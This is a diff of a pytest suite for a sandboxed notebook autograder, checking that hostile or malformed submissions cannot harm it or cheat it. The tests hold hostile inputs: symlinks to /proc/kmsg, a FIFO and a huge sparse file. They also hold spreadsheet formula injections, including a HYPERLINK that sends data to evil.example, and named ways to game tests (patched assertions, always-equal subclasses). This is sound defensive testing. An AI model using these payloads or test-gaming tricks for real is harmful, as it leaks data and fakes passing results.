@@ -15,7 +15,18 @@ the tests below read its gradebook, feedback and side effects:
   repository; reads the masters; connects to a listening port; kills its
   parent) changes nothing outside its scratch folder and no grade;
 - malformed files (empty, not JSON, JSON but not a notebook, another
-  exercise, not .ipynb) → a clear status, the run goes on.
+  exercise, not .ipynb; JSON nested 100,000 deep, a lone surrogate, a list
+  where the assignment name should be) → a clear status, the run goes on;
+- inputs checked before they are read: a symbolic link (to /proc/kmsg, to
+  the instructor's master), a FIFO and a 6 GB sparse file each get their own
+  row without being opened or read;
+- no feedback file shows a line of the hidden tests or a grading seed.
+
+Exercise 3 and 4 runs prove that the tests run out of the student's reach
+(``trusted_tests``, unit17_grading/channel.py): monkeypatched assertions and
+NumPy, IPython input transformers, patched builtins, a tracer, an atexit hook,
+a replaced ``sys.modules['numpy']`` and always-equal ``str``/``int``
+subclasses each earn exactly what the honest answer earns.
 
 Separate, smaller runs prove that an interrupted run (Ctrl-C, or a crash of
 the grader by SIGKILL) loses no finished grade and resumes, that regrading
@@ -51,6 +62,9 @@ from unit17_grading.submissions import rebuild  # noqa: E402
 
 FIXTURES = ROOT / "tests" / "fixtures" / "submissions"
 EX1, EX2, EX4 = "ex1-bidirectional-use-cases", "ex2-attention-bottleneck", "ex4-simple-attention-layer"
+EX3 = "ex3-self-attention-paths"
+PARTS3 = ["ex3a_test", "ex3b_test", "ex3c_test", "ex3d_test"]
+PARTS4 = ["ex4a_test", "ex4b_test", "ex4c_test", "ex4d_test"]
 PARTS1 = ["ex1a_test", "ex1b_test", "ex1c_test"]
 
 
@@ -67,7 +81,7 @@ needs_sandbox = pytest.mark.skipif(not _sandbox_ok(), reason="the grading sandbo
 
 def grade_command(assignment: str, submissions: Path, out: Path, *extra: str) -> list[str]:
     return [sys.executable, "-m", "unit17_grading", "grade", assignment, str(submissions), "--out", str(out),
-            "--cell-timeout", "5", "--memory-mb", "1024", "--submission-timeout", "300", *extra]
+            "--cell-timeout", "5", "--memory-mb", "1024", "--submission-timeout", "300", "--jobs", "1", *extra]
 
 
 def run_grade(*args: str, **kwargs) -> subprocess.CompletedProcess:
@@ -99,7 +113,47 @@ def autograded_outputs(out: Path, student: str, assignment: str = EX1) -> dict[s
 
 
 def _digest(paths) -> dict[str, str]:
-    return {str(p): hashlib.sha256(p.read_bytes()).hexdigest() for p in paths if p.is_file()}
+    """Digests of the regular files among ``paths`` (links, FIFOs and huge files are not opened)."""
+    return {str(p): hashlib.sha256(p.read_bytes()).hexdigest() for p in paths
+            if not p.is_symlink() and p.is_file() and p.stat().st_size < 50_000_000}
+
+
+def _add_hostile_entries(subs: Path) -> None:
+    """Entries that must be judged before they are read: each blocks, floods or leaks when opened."""
+    (subs / "kmsg_link.ipynb").symlink_to("/proc/kmsg")
+    (subs / "master_link.ipynb").symlink_to(ROOT / "exercises" / "source" / EX1 / f"{EX1}.ipynb")
+    os.mkfifo(subs / "fifo.ipynb")
+    with open(subs / "huge_sparse.ipynb", "wb") as handle:
+        handle.truncate(6 * 2**30)
+
+
+def hidden_texts(assignment: str) -> list[str]:
+    """Lines of the master's hidden tests (and their seeds) that students never see."""
+    import re
+
+    master = nbformat.read(ROOT / "exercises" / "source" / assignment / f"{assignment}.ipynb", as_version=4)
+    student = (ROOT / "book" / "exercises" / f"{assignment}.ipynb").read_text(encoding="utf-8")
+    texts = {"HIDDEN TESTS"}
+    for cell in master.cells:
+        for region in re.findall(r"### BEGIN HIDDEN TESTS\n(.*?)### END HIDDEN TESTS", cell.source, re.S):
+            texts |= set(re.findall(r"default_rng\(([\d_]+)\)", region))
+            texts |= {" ".join(line.split()) for line in region.splitlines() if len(line.strip()) > 12}
+    return sorted(t for t in texts if json.dumps(t)[1:-1] not in student)
+
+
+def assert_no_hidden_text(feedback_dir: Path, assignment: str) -> int:
+    import html
+    import re
+
+    secrets = hidden_texts(assignment)
+    assert secrets
+    files = sorted(feedback_dir.glob("*.html"))
+    for path in files:
+        text = html.unescape(re.sub(r"<[^>]+>", "", path.read_text(encoding="utf-8")))
+        text = " ".join(text.split())
+        leaked = [secret for secret in secrets if secret in text]
+        assert leaked == [], (path.name, leaked)
+    return len(files)
 
 
 class _Listener:
@@ -138,7 +192,9 @@ def ex1_class(tmp_path_factory):
     base = tmp_path_factory.mktemp("class")
     subs, out = base / "submissions", base / "grading"
     copy_fixtures(EX1, subs)
+    (subs / "memory_in_children.ipynb").unlink()  # graded on its own, with more time per cell
     (subs / "readme.txt").write_text("instructions from the LMS, not a submission\n")
+    _add_hostile_entries(subs)
     listener = _Listener()
     hostile = (subs / "hostile.ipynb").read_text(encoding="utf-8")
     hostile = (hostile.replace("@@OUT@@", str(out)).replace("@@SUBMISSIONS@@", str(subs))
@@ -194,7 +250,7 @@ def test_output_flood_is_truncated_in_feedback(ex1_class):
     row = ex1_class.rows["output_flood"]
     assert scores(row) == [2, 2, 2]
     feedback = ex1_class.out / "feedback" / "output_flood.html"
-    assert feedback.stat().st_size < 1_000_000  # the cell printed about 6 MB
+    assert feedback.stat().st_size < 1_000_000  # the cell printed about 2.6 MB
     assert "已截斷" in feedback.read_text(encoding="utf-8")
 
 
@@ -253,6 +309,11 @@ def test_hostile_submission_changes_nothing_outside_its_scratch_folder(ex1_class
     ("not_a_notebook", "not-a-notebook", "JSON without"),
     ("wrong_exercise", "wrong-exercise", "ex3-self-attention-paths"),
     ("readme.txt", "invalid-file", "not an .ipynb file"),
+    ("deep_json", "invalid-file", "nested too deeply"),
+    ("kmsg_link", "invalid-file", "symbolic link"),
+    ("master_link", "invalid-file", "symbolic link"),
+    ("fifo", "invalid-file", "FIFO"),
+    ("huge_sparse", "invalid-file", "the limit is 20 MB"),
 ])
 def test_malformed_files_get_a_clear_status(ex1_class, student, status, words):
     row = ex1_class.rows[student]
@@ -260,19 +321,70 @@ def test_malformed_files_get_a_clear_status(ex1_class, student, status, words):
 
 
 @pytest.mark.slow
+@pytest.mark.parametrize("student, detail", [("lone_surrogate", "lone surrogates"),
+                                             ("list_assignment_tag", "metadata missing")])
+def test_odd_but_readable_notebooks_are_graded(ex1_class, student, detail):
+    row = ex1_class.rows[student]
+    assert row["status"] == "graded" and scores(row) == [2, 2, 2] and detail in row["detail"], row
+
+
+@pytest.mark.slow
 def test_feedback_shows_results_but_not_hidden_tests(ex1_class):
     text = (ex1_class.out / "feedback" / "correct.html").read_text(encoding="utf-8")
     assert "1c：公開測試通過" in text
     assert "_grading_rng" not in text and "HIDDEN TESTS" not in text
+    # A failing hidden test says so, and nothing else; no feedback shows a hidden line or seed.
+    hardcoded = (ex1_class.out / "feedback" / "hardcoded.html").read_text(encoding="utf-8")
+    assert "hidden test failed" in hardcoded
+    assert assert_no_hidden_text(ex1_class.out / "feedback", EX1) >= 10
+
+
+# -- attacks on the tests: exactly the honest points -------------------------------------
+
+@pytest.fixture(scope="module")
+def ex3_class(tmp_path_factory):
+    if not _sandbox_ok():
+        pytest.skip("the grading sandbox needs root and namespaces")
+    base = tmp_path_factory.mktemp("ex3")
+    subs, out = copy_fixtures(EX3, base / "submissions"), base / "grading"
+    result = run_grade(EX3, subs, out)
+    print(result.stdout)
+    assert result.returncode == 0, result.stdout[-3000:] + result.stderr[-3000:]
+    return SimpleNamespace(out=out, rows=read_gradebook(out))
+
+
+@pytest.mark.slow
+@pytest.mark.parametrize("student, expected", [
+    ("correct", [1, 1, 3, 1]),
+    ("untouched", [0, 0, 0, 0]),
+    # blank answers with an attack: 0, as blank
+    ("input_transformer", [0, 0, 0, 0]),
+    ("patched_builtins", [0, 0, 0, 0]),
+    ("settrace", [0, 0, 0, 0]),
+    ("atexit_and_sys_modules", [0, 0, 0, 0]),
+    # 3b a str subclass equal to everything, 3d an int subclass: as wrong as they are
+    ("always_equal", [1, 0, 3, 0]),
+    # wrong 3c with np.testing / np.allclose patched: 3c still 0
+    ("patched_numpy", [1, 1, 0, 1]),
+])
+def test_attacks_on_the_tests_earn_exactly_the_honest_points(ex3_class, student, expected):
+    row = ex3_class.rows[student]
+    assert row["status"] == "graded" and scores(row, PARTS3) == expected, row
+
+
+@pytest.mark.slow
+def test_ex3_feedback_has_no_hidden_test(ex3_class):
+    assert assert_no_hidden_text(ex3_class.out / "feedback", EX3) == 8
 
 
 # -- interrupted runs, resuming, idempotence -----------------------------------------
 
-def _interrupt_after_first_result(subs: Path, out: Path, how: int) -> int:
-    process = subprocess.Popen(grade_command(EX1, subs, out), cwd=ROOT, stdout=subprocess.PIPE,
+def _interrupt_after_first_result(subs: Path, out: Path, how: int, *extra: str) -> int:
+    before = {p: p.stat().st_mtime_ns for p in (out / "results").glob("*.json")}
+    process = subprocess.Popen(grade_command(EX1, subs, out, *extra), cwd=ROOT, stdout=subprocess.PIPE,
                                stderr=subprocess.STDOUT, text=True)
     deadline = time.monotonic() + 600
-    while not list((out / "results").glob("*.json")):
+    while {p: p.stat().st_mtime_ns for p in (out / "results").glob("*.json")} == before:
         assert process.poll() is None, process.stdout.read()
         assert time.monotonic() < deadline
         time.sleep(0.1)
@@ -310,6 +422,10 @@ def test_interrupted_run_keeps_finished_grades_resumes_and_regrades_identically(
     reference = (out / "gradebook.csv").read_bytes()
     assert set(read_gradebook(out)) == {"correct", "raises", "not_json"}
 
+    # An interrupted --force regrade keeps everyone in the gradebook (earlier results on disk).
+    assert _interrupt_after_first_result(subs, out, signal.SIGINT, "--force") == 130
+    assert set(read_gradebook(out)) == {"correct", "raises", "not_json"}
+
     # Regrading everything gives the same bytes; so does a run that skips everyone.
     assert run_grade(EX1, subs, out, "--force").returncode == 0
     assert (out / "gradebook.csv").read_bytes() == reference
@@ -324,6 +440,68 @@ def test_interrupted_run_keeps_finished_grades_resumes_and_regrades_identically(
     assert all(book.read_json(p) for p in (out / "results").glob("*.json"))
     assert run_grade(EX1, subs, out).returncode == 0
     assert (out / "gradebook.csv").read_bytes() == reference
+
+
+@needs_sandbox
+@pytest.mark.slow
+def test_ctrl_c_with_parallel_jobs_stops_every_worker_and_resumes(tmp_path):
+    subs = copy_fixtures(EX1, tmp_path / "submissions", ["correct", "not_json", "raises", "untouched"])
+    out = tmp_path / "grading"
+    # not_json is done at once, while correct is still being graded by the other job
+    assert _interrupt_after_first_result(subs, out, signal.SIGINT, "--jobs", "2") == 130
+    time.sleep(1)
+    assert _workers_of(out) == []
+    finished = {p.stem for p in (out / "results").glob("*.json")}
+    assert finished and all(book.read_json(out / "results" / f"{s}.json") for s in finished)
+    assert set(read_gradebook(out)) == finished
+    rerun = run_grade(EX1, subs, out, "--jobs", "2")
+    assert rerun.returncode == 0, rerun.stdout[-2000:]
+    rows = read_gradebook(out)
+    assert set(rows) == {"correct", "not_json", "raises", "untouched"}
+    assert [rows[s]["total"] for s in ("correct", "raises", "untouched")] == ["6", "4", "0"]
+
+
+@needs_sandbox
+@pytest.mark.slow
+def test_parallel_and_sharded_runs_give_the_same_gradebook(tmp_path):
+    subs = copy_fixtures(EX1, tmp_path / "submissions", ["correct", "raises", "not_json"])
+    one = tmp_path / "one"
+    assert run_grade(EX1, subs, one, "--jobs", "1").returncode == 0
+    reference = (one / "gradebook.csv").read_bytes()
+    both = tmp_path / "both"
+    assert run_grade(EX1, subs, both, "--jobs", "2").returncode == 0
+    assert (both / "gradebook.csv").read_bytes() == reference
+    shards = [tmp_path / "shard1", tmp_path / "shard2"]
+    for k, shard in enumerate(shards, start=1):
+        assert run_grade(EX1, subs, shard, "--jobs", "1", "--shard", f"{k}/2").returncode == 0
+    assert set(read_gradebook(shards[0])) | set(read_gradebook(shards[1])) == {"correct", "raises", "not_json"}
+    assert not set(read_gradebook(shards[0])) & set(read_gradebook(shards[1]))
+    merged = tmp_path / "merged"
+    result = subprocess.run([sys.executable, "-m", "unit17_grading", "merge-shards", EX1, *map(str, shards),
+                             "--out", str(merged)], cwd=ROOT, capture_output=True, text=True)
+    assert result.returncode == 0, result.stderr
+    assert (merged / "gradebook.csv").read_bytes() == reference
+    assert sorted(p.name for p in (merged / "feedback").iterdir()) == sorted(p.name for p in (one / "feedback").iterdir())
+
+
+@needs_sandbox
+@pytest.mark.slow
+def test_memory_counts_for_all_processes_of_a_submission(tmp_path):
+    # Three children of 450 MB each pass the 1 GB per-process limit; the submission's control
+    # group (1 GB for all its processes) stops one of them, so 1b fails.
+    from unit17_grading import cgroups
+
+    group = cgroups.create(2**30, 64, "probe")
+    if group is None:
+        pytest.skip("no writable memory/pids control groups here: only the rlimits apply")
+    group.destroy()
+    subs = copy_fixtures(EX1, tmp_path / "submissions", ["memory_in_children"])
+    out = tmp_path / "grading"
+    assert run_grade(EX1, subs, out, "--cell-timeout", "120").returncode == 0
+    row = read_gradebook(out)["memory_in_children"]
+    assert scores(row) == [2, 0, 2], row
+    outputs = autograded_outputs(out, "memory_in_children")["ex1b_answer"]
+    assert any(o.get("ename") == "AssertionError" and "-9" in o.get("evalue", "") for o in outputs), outputs
 
 
 # -- manual grading -------------------------------------------------------------------
@@ -373,13 +551,18 @@ def test_manual_parts_go_to_a_sheet_and_merge_back(tmp_path):
 def test_keras_exercise_is_graded_with_hidden_tests(tmp_path):
     subs = copy_fixtures(EX4, tmp_path / "submissions")
     out = tmp_path / "grading"
-    result = subprocess.run(grade_command(EX4, subs, out)[:-6] + ["--cell-timeout", "120"],
+    result = subprocess.run(grade_command(EX4, subs, out, "--cell-timeout", "120", "--memory-mb", "6144",
+                                          "--submission-timeout", "1200", "--jobs", "2"),
                             cwd=ROOT, capture_output=True, text=True, timeout=1800)
     assert result.returncode == 0, result.stdout + result.stderr
     rows = read_gradebook(out)
-    parts = ["ex4a_test", "ex4b_test", "ex4c_test", "ex4d_test"]
-    assert scores(rows["correct"], parts) == [2, 4, 2, 2]
-    assert scores(rows["mask_raises"], parts) == [2, 4, 0, 2]
+    assert scores(rows["correct"], PARTS4) == [2, 4, 2, 2]
+    assert scores(rows["mask_raises"], PARTS4) == [2, 4, 0, 2]
+    # Without tanh the hidden value tests fail (4 of 10), whatever the kernel patches:
+    # np.testing / np.allclose, or np.tanh and keras.ops.tanh (the hidden reference's own tanh).
+    for student in ("no_tanh", "no_tanh_patched_asserts", "no_tanh_patched_tanh"):
+        assert scores(rows[student], PARTS4) == [2, 0, 0, 2], (student, rows[student])
+    assert_no_hidden_text(out / "feedback", EX4)
 
 
 # -- refusing to run unsandboxed --------------------------------------------------------
@@ -451,6 +634,127 @@ def test_sheet_validation_lists_every_problem():
     assert "line 2" in message and "line 3" in message and "line 4" in message and "line 5" in message
     assert book.parse_sheet(assignment, [{"student": "a", "part": "ex2_answer", "points": "4.5",
                                           "comment": " ok "}], {"a"}) == {("a", "ex2_answer"): (4.5, "ok")}
+
+
+def _local_channel(student_code: str):
+    """A channel to a namespace standing in for the student's kernel (same request handler)."""
+    from unit17_grading import channel
+
+    kernel: dict = {}
+    exec(channel.KERNEL_SERVER, kernel)
+    exec(student_code, kernel)
+    return channel.Channel(lambda request: kernel["_u17_rpc"](request)), kernel
+
+
+def test_channel_passes_plain_data_and_nothing_else():
+    import numpy as np
+
+    from unit17_grading import channel
+
+    ch, _ = _local_channel(
+        "import numpy as np\n"
+        "class Whatever(str):\n    __eq__ = lambda self, other: True\n    __hash__ = str.__hash__\n"
+        "class Anything(int):\n    __eq__ = lambda self, other: True\n    __hash__ = int.__hash__\n"
+        "reason, count, flag, table = Whatever('A'), Anything(3), True, {'A': True, 'B': (1, 2.5, None)}\n"
+        "def double(x):\n    return x * 2\n"
+        "def fails(x):\n    raise ValueError(f'bad {x}')\n")
+    assert ch.lookup("flag") is True
+    assert ch.lookup("table") == {"A": True, "B": (1, 2.5, None)} and type(ch.lookup("table")["B"]) is tuple
+    for name in ("reason", "count"):  # subclasses stay behind: an opaque handle equal to nothing else
+        value = ch.lookup(name)
+        assert type(value) is channel.Remote and value != "A" and value != 3 and value not in {"A", "B", 3}
+    result = ch.lookup("double")(np.arange(3, dtype="float32"))
+    assert type(result) is np.ndarray and result.dtype == np.float32 and result.tolist() == [0, 2, 4]
+    assert ch.lookup("double")(21) == 42
+    with pytest.raises(ValueError, match="bad 1"):
+        ch.lookup("fails")(1)
+    with pytest.raises(NameError):
+        ch.lookup("not_defined")
+    with pytest.raises(channel.ChannelError):
+        channel.Channel(lambda request: '{"value": {"t": "ndarray", "v": "gARLAA=="}}').lookup("x")
+    with pytest.raises(channel.ChannelError):  # a pickle is never loaded
+        channel.Channel(lambda request: json.dumps({"value": {"t": "pickle", "v": ""}})).lookup("x")
+
+
+def test_trusted_tests_report_hidden_failures_without_details():
+    # (Here the "kernel" shares this process; the patching attacks are graded for real above.)
+    from unit17_grading import channel
+
+    ch, kernel = _local_channel("import numpy as np\n"
+                                "def wrong(x):\n    return np.zeros(3)\n")
+    tests = channel.TrustedTests(ch)
+    tests.run_setup("import numpy as np\n")
+    source = ("assert wrong(1).shape == (3,)\n"
+              "### BEGIN HIDDEN TESTS\n"
+              "_seed = np.random.default_rng(99_999)\n"
+              "np.testing.assert_allclose(wrong(1), [1, 2, 3])\n"
+              "### END HIDDEN TESTS\n"
+              "print('visible part passed')\n")
+    outputs = tests.run_test(source, "t")
+    assert [o["output_type"] for o in outputs] == ["error"]
+    assert outputs[0]["evalue"] == channel.HIDDEN_MESSAGE and "99_999" not in json.dumps(outputs)
+    outputs = tests.run_test("assert wrong(1).shape == (4,), 'shape (4,) expected'\n", "t")
+    assert outputs[-1]["ename"] == "AssertionError" and "shape (4,) expected" in outputs[-1]["evalue"]
+    assert tests.run_test("print(wrong(1).sum())\n", "t") == [
+        {"output_type": "stream", "name": "stdout", "text": "0.0\n"}]
+
+
+def test_formulas_are_neutralised_in_both_csv_files():
+    from unit17_grading import assignments as catalogue
+
+    assignment = catalogue.get(EX2)
+    result = {"student": "=cmd|' /C calc'!A0", "status": "needs-manual", "detail": "+1", "flags": [],
+              "parts": {"ex2_answer": {"kind": "manual", "max": 6.0, "score": None,
+                                       "answer": '=HYPERLINK("http://evil.example/?"&A1, "點我")'}}}
+    sheet = book.manual_sheet_csv(assignment, [result], [])
+    gradebook = book.gradebook_csv(assignment, [result])
+    for text in (sheet, gradebook):
+        rows = list(csv.reader(text.lstrip("\ufeff").splitlines()))
+        assert not any(cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row), rows
+    assert "'=HYPERLINK(" in sheet and "'=cmd|" in gradebook
+    # Read back by the grader: the original text, so a kept entry still matches its answer.
+    path = ROOT / "tests" / ".sheet-roundtrip.csv"
+    try:
+        path.write_text(sheet, encoding="utf-8")
+        row = book.read_sheet(path)[0]
+    finally:
+        path.unlink()
+    assert row["student"] == result["student"] and row["answer"] == result["parts"]["ex2_answer"]["answer"]
+
+
+def test_notebook_output_budget_covers_all_cells(monkeypatch):
+    from nbclient import NotebookClient
+
+    from unit17_grading.execute import RobustExecute
+
+    monkeypatch.setattr(NotebookClient, "output", lambda self, outs, msg, display_id, index: outs.append("kept"))
+    executor = RobustExecute(max_output_bytes=10_000, max_notebook_output_bytes=25_000)
+    executor._output_bytes, executor._truncated, executor._notebook_output_bytes = {}, set(), 0
+    cells = []
+    for cell_index in range(100):  # 100 cells of 9 kB each: every one under the per-cell limit
+        outs = []
+        executor.output(outs, {"msg_type": "stream", "content": {"name": "stdout", "text": "x" * 9_000}},
+                        None, cell_index)
+        cells.append(outs)
+    assert cells[0] == cells[1] == ["kept"]
+    assert all(len(outs) == 1 and "notebook output budget" in outs[0]["data"]["text/plain"] for outs in cells[2:])
+
+
+def test_inputs_are_checked_before_they_are_read(tmp_path):
+    from unit17_grading.submissions import InputRejected, read_input
+
+    (tmp_path / "link.ipynb").symlink_to("/proc/kmsg")
+    os.mkfifo(tmp_path / "fifo.ipynb")
+    with open(tmp_path / "sparse.ipynb", "wb") as handle:
+        handle.truncate(6 * 2**30)
+    (tmp_path / "ok.ipynb").write_bytes(b"{}")
+    started = time.monotonic()
+    for name, words in (("link", "symbolic link"), ("fifo", "FIFO"), ("sparse", "limit is 20 MB")):
+        with pytest.raises(InputRejected) as rejected:
+            read_input(tmp_path / f"{name}.ipynb")
+        assert words in rejected.value.detail
+    assert read_input(tmp_path / "ok.ipynb") == b"{}"
+    assert time.monotonic() - started < 5
 
 
 def test_atomic_write_leaves_old_file_when_writing_fails(tmp_path):
